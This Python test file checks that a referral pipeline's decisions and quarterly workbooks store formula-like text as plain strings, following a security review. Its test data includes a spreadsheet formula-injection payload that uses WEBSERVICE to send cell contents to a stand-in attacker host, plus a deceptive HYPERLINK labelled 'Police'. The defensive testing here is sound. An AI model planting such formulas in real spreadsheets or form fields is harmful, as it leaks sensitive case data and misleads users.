"""Text from referral forms and meetings is written into a workbook as text, never a formula.

From the second review (review2/wb_formula.py, q.py): an agency or action typed as
`=WEBSERVICE(...)` was stored as a live formula in the decisions and quarterly workbooks.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl

from pipeline.outputs.charts import charts_of
from pipeline.outputs.quarterly import workbook
from pipeline.outputs.workbook import WorkbookAction, WorkbookFacts, WorkbookRow, workbook_xlsx
from pipeline.rules.quarterly import CaseRow, Quarter, quarter_figures

STEAL = '=WEBSERVICE("https://evil.example/?"&A2&B2)'
LINK = '=HYPERLINK("https://evil.example/","Police")'


def _sheets(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def test_the_decisions_workbook_stores_formula_like_text_as_text() -> None:
    facts = WorkbookFacts(
        "masp",
        "Panel",
        datetime(2027, 3, 1, 10, tzinfo=UTC),
        "1 March 2027",
        date(2027, 3, 1),
        1,
        "OFFICIAL-SENSITIVE",
        ("Education", "=1+1"),
        (WorkbookRow("MASP-2027-0001", "A.B.", "7", "10:00", STEAL, "presented"),),
        (WorkbookAction("MASP-2027-0001", LINK, "-owner", "+agency", date(2027, 4, 1)),),
    )
    data = workbook_xlsx(facts)
    for name, xml in _sheets(data).items():
        assert "<f>" not in xml, name
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book["Decisions"]["E2"].value == STEAL
    assert book["Decisions"]["E2"].data_type == "s"
    actions = book["Actions"]
    assert [c.value for c in actions[2]][:4] == ["MASP-2027-0001", LINK, "-owner", "+agency"]


def test_the_quarterly_workbook_stores_an_agency_label_as_text_and_doubles_header_ampersands() -> (
    None
):
    rows = [CaseRow(date(2027, 2, 1), LINK, (), ())]
    figures = quarter_figures(Quarter(2027, 1), rows, [], [r.received for r in rows], sheet_days=7)
    title = "Health & Care Panel: quarterly picture, 2027Q1"
    now = datetime(2027, 4, 2, tzinfo=UTC)
    data = workbook(figures, charts_of(figures), "OFFICIAL-SENSITIVE", title, now)
    for name, xml in _sheets(data).items():
        assert "<f>" not in xml, name
    summary = openpyxl.load_workbook(io.BytesIO(data))["Summary"]
    labels = [c.value for c in summary["A"]]
    assert LINK in labels
    assert "Health && Care Panel" in (summary.oddFooter.center.text or "")
